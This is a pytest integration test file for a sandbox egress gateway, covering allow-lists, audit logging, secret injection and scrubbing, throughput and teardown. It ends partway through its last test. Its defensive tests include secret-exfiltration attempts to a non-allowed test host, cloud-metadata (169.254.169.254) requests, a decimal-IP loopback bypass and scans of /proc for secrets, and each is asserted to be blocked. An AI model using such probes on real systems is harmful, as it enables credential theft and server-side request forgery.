"""The egress path end to end through REAL sandboxes on every tier (DESIGN §3, invariants 2, 3, 5).

A sandbox process -> the agent's proxy port (127.0.0.1:3128 inside) -> TCP_* frames over the
agent channel -> the host's gateway -> a server this test started on 127.0.0.1. Nothing of the
path is mocked. Test names (``*.example.test``) map to 127.0.0.1 through a StaticResolver, which
the gateway only dials with ``unsafe_allow_private_ranges=True``; a control sandbox without that
flag proves the same requests are refused (invariant 2).

To keep the number of microVMs small, one sandbox per tier (``open_sbx``) serves the checks that
leave it as they found it; the control and the kill-mid-transfer checks get their own. Every
check looks from outside too: what the server received, the audit rows, the engine's tunnels.
"""

from __future__ import annotations

import errno
import hashlib
import json
import logging
import random
import secrets
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from tests.conftest import require_tier
from tests.rawfile import raw_bytes

from moat import Sandbox, testing
from moat.egress import GatewayConfig, Secret, StaticResolver
from moat.engine import default_engine
from moat.engine.session import Session
from moat.sdk._loop import loop_thread
from test_egress_support import LocalPKI, Upstream, make_pki, start_upstream

API, OTHER, BULK, STREAM = (
    "api.example.test",
    "other.example.test",
    "bulk.example.test",
    "stream.example.test",
)
NAMES = (API, OTHER, BULK, STREAM)
#: Fresh per run, so a hit anywhere can only come from this run. 40 printable characters.
VALUE = "sk-live-" + secrets.token_hex(16)
OTHER_VALUE = "ghp-" + secrets.token_hex(16)
MB20 = 20 * 1024 * 1024
NO_ROUTE = (errno.ENETUNREACH, errno.EHOSTUNREACH)


# -- servers (all on 127.0.0.1) ------------------------------------------------------------


@dataclass
class Bulk:
    """Random downloads, hashed uploads and endless slow streams, with an event log."""

    server: ThreadingHTTPServer
    thread: threading.Thread
    events: list[tuple[Any, ...]] = field(default_factory=list)
    cv: threading.Condition = field(default_factory=threading.Condition)

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])

    def note(self, *event: Any) -> None:
        with self.cv:
            self.events.append(event)
            self.cv.notify_all()

    def wait_for(
        self, pred: Callable[[tuple[Any, ...]], bool], n: int = 1, timeout: float = 30
    ) -> list[tuple[Any, ...]]:
        """Wait until ``n`` events match ``pred``; return them (fewer on timeout)."""
        deadline = time.monotonic() + timeout
        with self.cv:
            while True:
                hits = [e for e in self.events if pred(e)]
                left = deadline - time.monotonic()
                if len(hits) >= n or left <= 0:
                    return hits
                self.cv.wait(left)

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=10)


def random_bytes(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def start_bulk() -> Bulk:
    bulk: Bulk

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            parts = self.path.split("/")
            if parts[1] == "random":
                data = random_bytes(int(parts[2]), int(parts[3]))
                self.send_response(200)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                view = memoryview(data)
                for i in range(0, len(data), 1 << 16):
                    self.wfile.write(view[i : i + (1 << 16)])
                return
            if parts[1] == "slow":
                self._slow(parts[2])
                return
            self.send_error(404)

        def _slow(self, tag: str) -> None:
            # An endless-looking response: 8 KiB every 50 ms for up to 120 s.
            self.send_response(200)
            self.send_header("Content-Length", str(1 << 30))
            self.end_headers()
            bulk.note("slow_start", tag)
            sent, why, end = 0, "time_limit", time.monotonic() + 120
            try:
                while time.monotonic() < end:
                    self.wfile.write(b"s" * 8192)
                    self.wfile.flush()
                    sent += 8192
                    time.sleep(0.05)
            except OSError as exc:
                why = type(exc).__name__
            bulk.note("slow_end", tag, sent, why)

        def do_POST(self) -> None:
            n = int(self.headers.get("Content-Length", "0"))
            h = hashlib.sha256()
            got = 0
            while got < n:
                chunk = self.rfile.read(min(1 << 16, n - got))
                if not chunk:
                    break
                h.update(chunk)
                got += len(chunk)
            bulk.note("upload", got, h.hexdigest())
            body = json.dumps({"len": got, "sha256": h.hexdigest()}).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    class Server(ThreadingHTTPServer):
        daemon_threads = True

        def handle_error(self, request: Any, client_address: Any) -> None:
            pass  # clients cut off by the gateway are expected here

    server = Server(("127.0.0.1", 0), Handler)
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    bulk = Bulk(server, thread)
    return bulk


@dataclass
class Env:
    pki: LocalPKI
    plain: Upstream
    tls: Upstream
    bulk: Bulk

    def policy(self, *, stream: bool = True) -> dict[str, list[str]]:
        allow = [
            f"{API}:{self.plain.port}",
            f"{API}:{self.tls.port}",
            f"{OTHER}:{self.plain.port}",
            f"{OTHER}:{self.tls.port}",
            f"{BULK}:{self.bulk.port}",
        ]
        if stream:
            allow.append(f"{STREAM}:{self.bulk.port}")
        return {"allow_out": allow}

    def config(self, *, unsafe: bool = True) -> GatewayConfig:
        return GatewayConfig(
            unsafe_allow_private_ranges=unsafe,
            resolver=StaticResolver({n: ["127.0.0.1"] for n in NAMES}),
            upstream_ca_file=str(self.pki.ca_file),
        )

    def params(self) -> dict[str, Any]:
        """What the code inside the sandbox needs to know (ports and names only)."""
        return {
            "plain": self.plain.port,
            "tls": self.tls.port,
            "bulk": self.bulk.port,
            "api": API,
            "other": OTHER,
            "bulkhost": BULK,
            "stream": STREAM,
        }


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    pki = make_pki(tmp_path_factory.mktemp("pki"))
    e = Env(
        pki,
        start_upstream("127.0.0.1", None, "plain"),
        start_upstream("127.0.0.1", pki, "tls"),
        start_bulk(),
    )
    yield e
    e.plain.stop()
    e.tls.stop()
    e.bulk.stop()


def secrets_for_sandbox() -> dict[str, Secret]:
    return {
        "OPENAI_API_KEY": Secret(
            VALUE, hosts=[API], header="Authorization", template="Bearer {value}"
        ),
        "GH_TOKEN": Secret(OTHER_VALUE, hosts=[OTHER], header="X-Token"),
    }


def new_open_sandbox(tier: str, env: Env) -> Sandbox:
    return Sandbox.create(
        isolation=tier,
        timeout=1800,
        network=env.policy(),
        secrets=secrets_for_sandbox(),
        gateway_config=env.config(unsafe=True),
    )


@pytest.fixture(scope="module")
def pool(env: Env) -> Iterator[dict[str, Sandbox]]:
    """One open sandbox per tier, made on first use and killed at the end of the module."""
    made: dict[str, Sandbox] = {}
    yield made
    for sbx in made.values():
        sbx.kill()


@pytest.fixture
def open_sbx(tier: str, env: Env, pool: dict[str, Sandbox]) -> Sandbox:
    """The module's open sandbox on ``tier`` (policy restored before each test)."""
    sbx = pool.get(tier)
    if sbx is None or not sbx.is_running():
        sbx = pool[tier] = new_open_sandbox(tier, env)
    else:
        sbx.update_network(env.policy())
    return sbx


# -- helpers -------------------------------------------------------------------------------


def py(sbx: Sandbox, params: dict[str, Any], code: str, timeout: float = 120) -> dict[str, Any]:
    """Run ``code`` (which sets ``out``) with ``P`` = params; return ``out`` as JSON."""
    head = f"import json\nP = json.loads({json.dumps(json.dumps(params))})\nout = {{}}\n"
    src = head + code + "\nprint('@@' + json.dumps(out))"
    ex = sbx.run_code(src, timeout=timeout)
    assert ex.error is None, f"{ex.error.name}: {ex.error.value}\n{ex.error.traceback}"
    lines = [ln for ln in "".join(ex.logs.stdout).splitlines() if ln.startswith("@@")]
    assert lines, ex.logs
    result: dict[str, Any] = json.loads(lines[-1][2:])
    return result


def session_of(sbx: Sandbox) -> Session:
    session: Session = testing.session_of(
        sbx
    )  # the engine's view: tunnels and gateway, from outside
    return session


def on_loop(fn: Callable[[], Any]) -> Any:
    """Evaluate ``fn`` on the engine's loop (its state is only touched there)."""

    async def call() -> Any:
        return fn()

    return loop_thread().run(call())


def wait_until(pred: Callable[[], bool], timeout: float = 10) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if on_loop(pred):
            return True
        time.sleep(0.1)
    return bool(on_loop(pred))


def egress_rows(sbx: Sandbox) -> list[dict[str, Any]]:
    return [r for r in sbx.audit() if r["kind"] == "egress"]


def quiet(sbx: Sandbox) -> bool:
    """No proxied stream and no gateway connection left (checked after each transfer)."""
    s = session_of(sbx)
    return wait_until(
        lambda: (
            (s.tunnels is None or not s.tunnels.streams)
            and (s.gateway is None or s.gateway.stats()["open"] == 0)
        )
    )


# Code run inside: GET/POST helpers that return (status, reason header, body) and never raise.
HTTP_HELPERS = """
import urllib.request, urllib.error, ssl, os
def fetch(url, data=None, headers=None, context=None, method=None):
    req = urllib.request.Request(url, data=data, headers=headers or {}, method=method)
    try:
        r = urllib.request.urlopen(req, timeout=60, context=context)
        hdrs = {k.lower(): v for k, v in r.headers.items()}
        return [r.status, r.headers.get('X-Moat-Reason'), r.read().decode('latin-1'), hdrs]
    except urllib.error.HTTPError as e:
        return [e.code, e.headers.get('X-Moat-Reason'), e.read().decode('latin-1'), dict(e.headers)]
    except Exception as e:
        return [-1, type(e).__name__ + ': ' + str(e), '', {}]
def raw_proxy(url, host):
    # Straight to the proxy port: urllib would honour NO_PROXY for 127.0.0.1 literals.
    import socket
    s = socket.create_connection(('127.0.0.1', 3128), timeout=60)
    s.sendall(('GET %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (url, host)).encode())
    data = b''
    while chunk := s.recv(65536):
        data += chunk
    s.close()
    head = data.split(b'\\r\\n\\r\\n')[0].decode('latin-1').split('\\r\\n')
    hdrs = dict(line.split(': ', 1) for line in head[1:])
    return [int(head[0].split()[1]), hdrs.get('X-Moat-Reason')]
"""


# -- 1. allowed host ------------------------------------------------------------------------


def test_allowed_host_get_post_and_curl(open_sbx: Sandbox, env: Env) -> None:
    tag = secrets.token_hex(4)
    code = (
        HTTP_HELPERS
        + f"""
import shutil, subprocess
base = 'http://%s:%d' % (P['api'], P['plain'])
out['get'] = fetch(base + '/get-{tag}')
out['post'] = fetch(base + '/post-{tag}', data=b'p' * 5000, method='POST')
out['curl'] = shutil.which('curl')
if out['curl']:
    c = subprocess.run([out['curl'], '-sS', '-m', '30', base + '/curl-{tag}'],
                       capture_output=True, text=True, timeout=60)
    out['curl_rc'] = c.returncode
    out['curl_body'] = c.stdout
"""
    )
    out = py(open_sbx, env.params(), code)
    assert out["get"][0] == 200 and json.loads(out["get"][2])["path"] == f"/get-{tag}"
    assert out["post"][0] == 200 and json.loads(out["post"][2])["len"] == 5000
    paths = {r["path"]: r for r in env.plain.records}
    assert paths[f"/get-{tag}"]["method"] == "GET"  # the server really received them
    assert paths[f"/post-{tag}"]["body"] == b"p" * 5000
    if out["curl"]:
        assert out["curl_rc"] == 0 and json.loads(out["curl_body"])["path"] == f"/curl-{tag}"
        assert f"/curl-{tag}" in paths
    rows = [r for r in egress_rows(open_sbx) if r.get("host") == API and r["result"] == "allow"]
    methods = {r["method"] for r in rows}
    assert {"GET", "POST"} <= methods
    for r in rows:
        assert r["port"] == env.plain.port and r["resolved_ip"] == "127.0.0.1"
        assert r["bytes_up"] > 0 and r["bytes_down"] > 0
    post = next(r for r in rows if r["method"] == "POST")
    assert post["bytes_up"] > 5000  # the body was counted
    assert quiet(open_sbx)


# -- 2. denied hosts; the control without the unsafe flag ---------------------------------


def test_denied_host_gets_403_and_an_audit_row(open_sbx: Sandbox, env: Env) -> None:
    code = (
        HTTP_HELPERS
        + """
out['denied'] = fetch('http://denied.example.test/x')
out['metadata'] = fetch('http://169.254.169.254/latest/meta-data/')
out['https_denied'] = fetch('https://denied.example.test/x')
"""
    )
    out = py(open_sbx, env.params(), code)
    assert out["denied"][:2] == [403, "not_allowed"]
    assert out["metadata"][:2] == [403, "not_allowed"]
    assert out["https_denied"][0] == -1 and "403" in out["https_denied"][1]  # CONNECT refused
    denied = open_sbx.audit(denied_only=True)
    hosts = {(r.get("method"), r.get("host"), r.get("reason")) for r in denied}
    assert ("GET", "denied.example.test", "not_allowed") in hosts
    assert ("GET", "169.254.169.254", "not_allowed") in hosts
    assert ("CONNECT", "denied.example.test", "not_allowed") in hosts
    assert all(r["result"] == "deny" for r in denied)


def test_private_ranges_refused_without_the_unsafe_flag(tier: str, env: Env) -> None:
    """Invariant 2's control: same names, same policy (plus the metadata IP and internet
    access), no ``unsafe_`` flag: nothing private is dialled, whatever the policy allows."""
    before = len(env.plain.records)
    policy = env.policy()
    policy["allow_out"] += ["169.254.169.254", f"127.0.0.1:{env.plain.port}"]
    with Sandbox.create(
        isolation=tier,
        timeout=300,
        network=policy,
        allow_internet_access=True,
        gateway_config=env.config(unsafe=False),
    ) as sbx:
        code = (
            HTTP_HELPERS
            + """
out['rebind'] = fetch('http://%s:%d/ctl' % (P['api'], P['plain']))
out['metadata'] = fetch('http://169.254.169.254/latest/meta-data/')
lo = '127.0.0.1:%d' % P['plain']
out['loopback'] = raw_proxy('http://%s/ctl' % lo, lo)
dec = '2130706433:%d' % P['plain']
out['decimal'] = raw_proxy('http://%s/ctl' % dec, dec)
out['tls'] = fetch('https://%s:%d/ctl' % (P['api'], P['tls']))
"""
        )
        out = py(sbx, env.params(), code)
        assert out["rebind"][:2] == [403, "blocked_address:loopback"]
        assert out["metadata"][:2] == [403, "blocked_address:link_local"]
        assert out["loopback"][:2] == [403, "blocked_address:loopback"]
        assert out["decimal"][0] == 403  # 127.0.0.1 spelled as a number: still loopback
        assert out["tls"][0] == -1 and "403" in out["tls"][1]
        reasons = {r.get("reason") for r in sbx.audit(denied_only=True)}
        assert {"blocked_address:loopback", "blocked_address:link_local"} <= reasons
        assert not [r for r in sbx.audit() if r.get("result") == "allow" and r["kind"] == "egress"]
    assert len(env.plain.records) == before  # nothing reached the server


# -- 3. containment: no route, no DNS without the proxy ------------------------------------


def test_no_route_and_no_dns_around_the_proxy(open_sbx: Sandbox, env: Env) -> None:
    tag = secrets.token_hex(4)
    code = f"""
import socket, errno
def attempt(addr):
    try:
        s = socket.create_connection(addr, timeout=5)
    except OSError as e:
        return ['refused', e.errno]
    # Had it connected, make it visible from outside: the server would record this path.
    s.sendall(b'GET /direct-{tag} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
    s.close()
    return ['connected', 0]
out['host_server'] = attempt(('127.0.0.1', P['plain']))
out['host_tls'] = attempt(('127.0.0.1', P['tls']))
out['public'] = attempt(('1.1.1.1', 80))
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b'x', ('1.1.1.1', 53))
    out['udp'] = 'sent'
except OSError as e:
    out['udp'] = e.errno
dns = {{}}
for name in ('example.com', P['api'], 'pypi.org'):
    try:
        dns[name] = str(socket.getaddrinfo(name, 80))
    except OSError as e:
        dns[name] = 'fail'
out['dns'] = dns
out['ifaces'] = sorted(n for _, n in socket.if_nameindex())
"""
    out = py(open_sbx, env.params(), code)
    assert out["host_server"][0] == "refused" and out["host_tls"][0] == "refused"
    # ENETUNREACH (gVisor says EHOSTUNREACH): there is no route at all, nothing was sent.
    assert out["public"][0] == "refused" and out["public"][1] in NO_ROUTE
    assert out["udp"] in NO_ROUTE
    assert set(out["dns"].values()) == {"fail"}, out["dns"]
    assert out["ifaces"] == ["lo"]
    assert not [r for r in env.plain.records if r["path"] == f"/direct-{tag}"]
    # Positive control: from the host the same server answers, and through the proxy the
    # sandbox reaches it (test_allowed_host_get_post_and_curl).
    import socket as host_socket

    with host_socket.create_connection(("127.0.0.1", env.plain.port), timeout=5):
        pass


# -- 4. HTTPS with secret injection --------------------------------------------------------


def test_secret_injected_scrubbed_and_never_inside(
    open_sbx: Sandbox, env: Env, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    tag = secrets.token_hex(4)
    params = env.params() | {"rev": VALUE[::-1], "tag": tag}  # reversed: no literal inside
    code = (
        HTTP_HELPERS
        + """
import os, glob, shutil, subprocess, http.client
needle = P['rev'][::-1].encode()
ph = os.environ['OPENAI_API_KEY']
out['placeholder'] = ph.startswith('moat-ph-') and needle not in ph.encode()
hits = []
def scan(path):
    try:
        with open(path, 'rb') as f:
            if needle in f.read(16 << 20):
                hits.append(path)
    except OSError:
        pass
scan('/proc/self/environ')
for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    scan(p)
for root in ('/tmp', '/home', '/etc', '/opt', '/run', '/var/tmp'):
    for d, _, files in os.walk(root):
        for f in files:
            scan(os.path.join(d, f))
env_out = subprocess.run(['env'], capture_output=True, timeout=30).stdout
if needle in env_out:
    hits.append('env')
if needle in b''.join(k.encode() + v.encode() for k, v in os.environ.items()):
    hits.append('os.environ')
out['hits'] = hits
ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
url = 'https://%s:%d/echo-%s' % (P['api'], P['tls'], P['tag'])
r = fetch(url, headers={'Authorization': 'Bearer ' + ph}, context=ctx)
out['status'] = r[0]
out['body'] = r[2]
out['echo_header'] = r[3].get('x-echo-auth')
# http.client by hand, through the proxy with CONNECT, trusting the same bundle
c = http.client.HTTPSConnection('127.0.0.1', 3128, context=ctx, timeout=60)
c.set_tunnel(P['api'], P['tls'])
c.request('GET', '/hc-%s' % P['tag'], headers={'Authorization': 'Bearer ' + ph})
resp = c.getresponse()
out['hc'] = [resp.status, resp.read().decode()]
c.close()
curl = shutil.which('curl')
if curl:
    auth = 'Authorization: Bearer ' + ph
    cp = subprocess.run([curl, '-sS', '-m', '30', '-H', auth, url + '-curl'],
                        capture_output=True, text=True, timeout=60)
    out['curl'] = [cp.returncode, cp.stdout]
# exfiltration: the same placeholder to other hosts
out['exfil_tls'] = fetch('https://%s:%d/exfil-%s' % (P['other'], P['tls'], P['tag']),
                         headers={'Authorization': 'Bearer ' + ph}, context=ctx)[:2]
out['exfil_plain'] = fetch('http://%s:%d/exfil-%s' % (P['other'], P['plain'], P['tag']),
                           headers={'X-Anything': ph})[:2]
out['exfil_body'] = fetch('http://%s:%d/exfil-body-%s' % (P['other'], P['plain'], P['tag']),
                          data=b'{"k": "' + ph.encode() + b'"}', method='POST')[:2]
out['plaintext_own'] = fetch('http://%s:%d/plain-%s' % (P['api'], P['plain'], P['tag']),
                             headers={'Authorization': 'Bearer ' + ph})[:2]
"""
    )
    out = py(open_sbx, params, code, timeout=180)
    assert out["placeholder"] is True
    assert out["hits"] == []  # the value is nowhere the sandbox can read
    # The server received the REAL value ...
    got = {r["path"]: r["headers"].get("authorization") for r in env.tls.records}
    assert got[f"/echo-{tag}"] == f"Bearer {VALUE}"
    assert got[f"/hc-{tag}"] == f"Bearer {VALUE}"
    # ... and what came back was scrubbed by the gateway (same length, stars).
    assert out["status"] == 200
    assert json.loads(out["body"])["auth"] == "Bearer " + "*" * len(VALUE)
    assert out["echo_header"] == "Bearer " + "*" * len(VALUE)
    assert out["hc"][0] == 200 and json.loads(out["hc"][1])["auth"] == "Bearer " + "*" * len(VALUE)
    if "curl" in out:
        assert out["curl"][0] == 0 and json.loads(out["curl"][1])["auth"].endswith("*" * len(VALUE))
        assert got[f"/echo-{tag}-curl"] == f"Bearer {VALUE}"
    # Exfiltration is refused before anything reaches the other host.
    assert out["exfil_tls"] == [403, "secret_exfiltration"]
    assert out["exfil_plain"] == [403, "secret_exfiltration"]
    assert out["exfil_body"] == [403, "secret_exfiltration"]
    assert out["plaintext_own"] == [403, "secret_over_plaintext"]
    reached = [r for r in env.tls.records + env.plain.records if tag in r["path"]]
    heads_only = [r for r in reached if "exfil-body-" in r["path"]]
    assert not [
        r
        for r in reached
        if r not in heads_only and ("exfil-" in r["path"] or "plain-" in r["path"])
    ]
    # A body is scanned as it streams: its head may leave, the whole placeholder never does.
    ph = on_loop(lambda: session_of(open_sbx).gateway.placeholders()["OPENAI_API_KEY"])  # type: ignore[union-attr]
    for r in reached:
        assert ph.encode() not in r["body"] and ph not in json.dumps(r["headers"])
    rows = open_sbx.audit()
    exfil = [r for r in rows if r.get("reason") == "secret_exfiltration"]
    assert len(exfil) >= 3 and all(
        r["secret"] == "OPENAI_API_KEY" and r["result"] == "deny" for r in exfil
    )
    assert {r["host"] for r in exfil} == {OTHER}
    intercepted = [
        r for r in rows if r.get("reason", "").startswith("intercepted") and r.get("secret")
    ]
    assert intercepted and intercepted[0]["secret"] == "OPENAI_API_KEY"
    # The value appears in no audit byte, no log line, no row.
    db = default_engine().audit.path
    for suffix in ("", "-wal", "-shm"):
        f = Path(str(db) + suffix)
        if f.exists():
            assert VALUE.encode() not in raw_bytes(f)  # not read_bytes(): see tests/rawfile.py
    assert VALUE not in caplog.text and VALUE not in json.dumps(rows)
    assert OTHER_VALUE not in caplog.text
    assert quiet(open_sbx)


# -- 6. flow control -----------------------------------------------------------------------


@pytest.mark.slow
def test_20mb_each_way_hash_matches(open_sbx: Sandbox, env: Env) -> None:
    seed = random.randrange(1 << 30)
    expected = hashlib.sha256(random_bytes(MB20, seed)).hexdigest()
    code = f"""
import hashlib, os, time, urllib.request
url = 'http://%s:%d' % (P['bulkhost'], P['bulk'])
t = time.monotonic()
h = hashlib.sha256(); n = 0
with urllib.request.urlopen(url + '/random/{MB20}/{seed}', timeout=120) as r:
    while chunk := r.read(1 << 16):
        h.update(chunk); n += len(chunk)
out['down'] = [n, h.hexdigest(), time.monotonic() - t]
data = os.urandom({MB20})
mine = hashlib.sha256(data).hexdigest()
t = time.monotonic()
req = urllib.request.Request(url + '/sha256', data=data, method='POST')
with urllib.request.urlopen(req, timeout=180) as r:
    theirs = json.loads(r.read())
out['up'] = [len(data), mine, theirs, time.monotonic() - t]
"""
    out = py(open_sbx, env.params(), code, timeout=600)
    n, digest, secs = out["down"]
    assert n == MB20 and digest == expected
    ln, mine, theirs, up_secs = out["up"]
    assert ln == MB20 and theirs == {"len": MB20, "sha256": mine}
    assert ("upload", MB20, mine) in env.bulk.events  # as the server saw it
    tier = session_of(open_sbx).spec.tier
    print(
        f"\n[{tier}] egress throughput: download {MB20 / secs / 1e6:.1f} MB/s,"
        f" upload {MB20 / up_secs / 1e6:.1f} MB/s (20 MiB each way, plain HTTP via the gateway)"
    )
    assert quiet(open_sbx)


# -- 5. update_network closes what is no longer allowed ------------------------------------

STREAMS = """
import socket, threading, time
STATE = globals().setdefault('STATE', {})
def read_all(name, sock):
    n, why = 0, 'eof'
    try:
        while True:
            b = sock.recv(65536)
            if not b:
                break
            n += len(b)
            STATE[name]['bytes'] = n
    except OSError as e:
        why = type(e).__name__
    STATE[name].update(bytes=n, why=why, done=True)
    sock.close()
def open_plain(name, tag):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=90)
    host = '%s:%d' % (P['stream'], P['bulk'])
    head = 'GET http://%s/slow/%s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (host, tag, host)
    s.sendall(head.encode())
    return s
def open_tunnel(name, tag):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=90)
    host = '%s:%d' % (P['stream'], P['bulk'])
    s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (host, host)).encode())
    head = b''
    while b'\\r\\n\\r\\n' not in head:
        head += s.recv(1)
    assert head.startswith(b'HTTP/1.1 200'), head
    s.sendall(('GET /slow/%s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (tag, host)).encode())
    return s
def start(name, opener, tag):
    STATE[name] = {'bytes': 0, 'done': False}
    threading.Thread(target=read_all, args=(name, opener(name, tag)), daemon=True).start()
def wait(pred, timeout):
    end = time.monotonic() + timeout
    while time.monotonic() < end and not pred():
        time.sleep(0.05)
    return pred()
"""


def known_bug(ok: bool, what: str) -> None:
    """A check of a bug found by these tests and fixed since: it must stay fixed."""
    assert ok, what


PLAIN_UPSTREAM_LEAK = (
    "egress/exchange.py Forwarder.exchange: an upstream dialled in the exchange is not closed"
    " when the exchange is cancelled (policy update, kill, idle timeout) or fails on the"
    " client side, so a plain-HTTP upstream connection outlives its sandbox-side stream"
)
PLAIN_CUT_NOT_AUDITED = (
    "egress/exchange.py Forwarder.exchange: the allow row of a plain/intercepted request is"
    " written only when the exchange completes, so a request cut mid-response has no row"
)


def test_update_network_closes_open_tunnels(open_sbx: Sandbox, env: Env) -> None:
    tag = secrets.token_hex(4)
    params = env.params() | {"tag": tag}
    code = (
        STREAMS
        + """
start('plain', open_plain, 'plain-' + P['tag'])
start('tunnel', open_tunnel, 'tunnel-' + P['tag'])
out['flowing'] = wait(lambda: all(STATE[k]['bytes'] > 20000 for k in ('plain', 'tunnel')), 60)
"""
    )
    out = py(open_sbx, params, code)
    assert out["flowing"] is True
    started = env.bulk.wait_for(lambda e: e[0] == "slow_start" and tag in e[1], n=2)
    assert len(started) == 2
    s = session_of(open_sbx)
    tunnels = s.tunnels
    assert tunnels is not None
    assert on_loop(lambda: len(tunnels.streams)) >= 2  # positive control: both are open

    t0 = time.monotonic()
    open_sbx.update_network(env.policy(stream=False))
    # The CONNECT tunnel's upstream is cut at once (the server's next write fails) ...
    ended = env.bulk.wait_for(lambda e: e[0] == "slow_end" and e[1] == f"tunnel-{tag}", timeout=15)
    assert ended and ended[0][3] != "time_limit"
    assert time.monotonic() - t0 < 15
    # ... and the sandbox's end of both streams sees the close.
    code = (
        HTTP_HELPERS
        + """
ok = wait(lambda: all(STATE[k].get('done') for k in ('plain', 'tunnel')), 15)
out['ended'] = ok
out['state'] = {k: STATE[k] for k in ('plain', 'tunnel')}
url = 'http://%s:%d/random/1000/1' % (P['stream'], P['bulk'])
out['after'] = fetch(url)[:2]
"""
    )
    out = py(open_sbx, params, STREAMS + code)
    assert out["ended"] is True, out["state"]
    assert out["after"] == [403, "not_allowed"]  # new requests are refused
    assert quiet(open_sbx)
    rows = [r for r in egress_rows(open_sbx) if r.get("host") == STREAM]
    assert any(
        r["result"] == "allow" and r["reason"] == "tunnel;closed:policy_updated" for r in rows
    )
    assert any(r["result"] == "deny" and r["reason"] == "not_allowed" for r in rows)

    open_sbx.update_network(env.policy(stream=True))
    out = py(
        open_sbx,
        params,
        HTTP_HELPERS
        + """
r = fetch('http://%s:%d/random/1000/1' % (P['stream'], P['bulk']))
out['again'] = [r[0], len(r[2])]
""",
    )
    assert out["again"] == [200, 1000]  # allowed again after re-allowing
    plain_end = env.bulk.wait_for(
        lambda e: e[0] == "slow_end" and e[1] == f"plain-{tag}", timeout=3
    )
    rows = [
        r for r in egress_rows(open_sbx) if r.get("host") == STREAM and r.get("method") == "GET"
    ]
    known_bug(bool(plain_end), PLAIN_UPSTREAM_LEAK)
    known_bug(any("policy_updated" in r["reason"] for r in rows), PLAIN_CUT_NOT_AUDITED)


# -- 7. many concurrent connections --------------------------------------------------------


def test_50_concurrent_requests_complete_or_are_refused(open_sbx: Sandbox, env: Env) -> None:
    code = (
        HTTP_HELPERS
        + """
import concurrent.futures, threading, time
# Small stacks: with 8 MiB ones a gVisor sandbox can start only ~12 threads (reported).
threading.stack_size(256 * 1024)
base = 'http://%s:%d/c' % (P['api'], P['plain'])
t = time.monotonic()
with concurrent.futures.ThreadPoolExecutor(50) as pool:
    res = list(pool.map(lambda i: fetch(base + str(i))[:2], range(50)))
out['res'] = res
out['secs'] = time.monotonic() - t
time.sleep(3)  # let the rate bucket refill
out['after'] = fetch(base + '-after')[:2]
"""
    )
    out = py(open_sbx, env.params(), code, timeout=240)
    res = out["res"]
    assert len(res) == 50
    ok = [r for r in res if r[0] == 200]
    refused = [r for r in res if r[0] != 200]
    # Every refusal is the gateway's, with its reason, as a clear 4xx/5xx; never a hang.
    assert all(400 <= r[0] < 600 and r[1] for r in refused), refused
    assert {r[1] for r in refused} <= {"rate_limited", "too_many_tunnels"}
    assert len(ok) >= 20  # the burst allowance (40) minus what earlier checks used
    assert out["after"] == [200, None]
    print(f"\n50 parallel requests: {len(ok)} ok, {len(refused)} refused, {out['secs']:.1f}s")
    assert open_sbx.run_code("1 + 1").text == "2"
    assert quiet(open_sbx)


def test_kill_leaves_no_gateway_state(
    tier: str, open_sbx: Sandbox, pool: dict[str, Sandbox]
) -> None:
    s = session_of(open_sbx)
    gw, tunnels, proc = s.gateway, s.tunnels, s.proc
    assert gw is not None and tunnels is not None and proc is not None
    open_sbx.kill()
    pool.pop(tier, None)
    assert not proc.alive()
    assert on_loop(lambda: (dict(tunnels.streams), gw.stats()["open"])) == ({}, 0)


# -- kill in the middle of a transfer ------------------------------------------------------


def test_kill_mid_transfer_leaves_nothing(tier: str, env: Env) -> None:
    require_tier(tier)
    tag = secrets.token_hex(4)
    sbx = new_open_sandbox(tier, env)
    try:
        out = py(
            sbx,
            env.params() | {"tag": tag},
            STREAMS
            + """
start('plain', open_plain, 'plain-' + P['tag'])
start('tunnel', open_tunnel, 'tunnel-' + P['tag'])
out['flowing'] = wait(lambda: all(STATE[k]['bytes'] > 20000 for k in ('plain', 'tunnel')), 60)
""",
        )
        assert out["flowing"] is True
        s = session_of(sbx)
        gw, tunnels, proc = s.gateway, s.tunnels, s.proc
        assert gw is not None and tunnels is not None and proc is not None
        open_streams = on_loop(lambda: list(tunnels.streams.values()))
        assert len(open_streams) >= 2 and on_loop(lambda: gw.stats()["open"]) >= 2  # control
    finally:
        sbx.kill()
    assert not proc.alive()
    assert on_loop(lambda: (dict(tunnels.streams), gw.stats()["open"])) == ({}, 0)
    assert wait_until(
        lambda: all(t.dead and t.task is not None and t.task.done() for t in open_streams)
    )
    ended = env.bulk.wait_for(lambda e: e[0] == "slow_end" and e[1] == f"tunnel-{tag}", timeout=15)
    assert ended and ended[0][3] != "time_limit"  # the tunnel's upstream died with it
    rows = default_engine().audit.query(sandbox_id=sbx.sandbox_id, kind="egress")
    # The tunnel's row was completed (bytes and an end), whichever side noticed the end first.
    tunnel_rows = [r for r in rows if r.get("method") == "CONNECT" and r["result"] == "allow"]
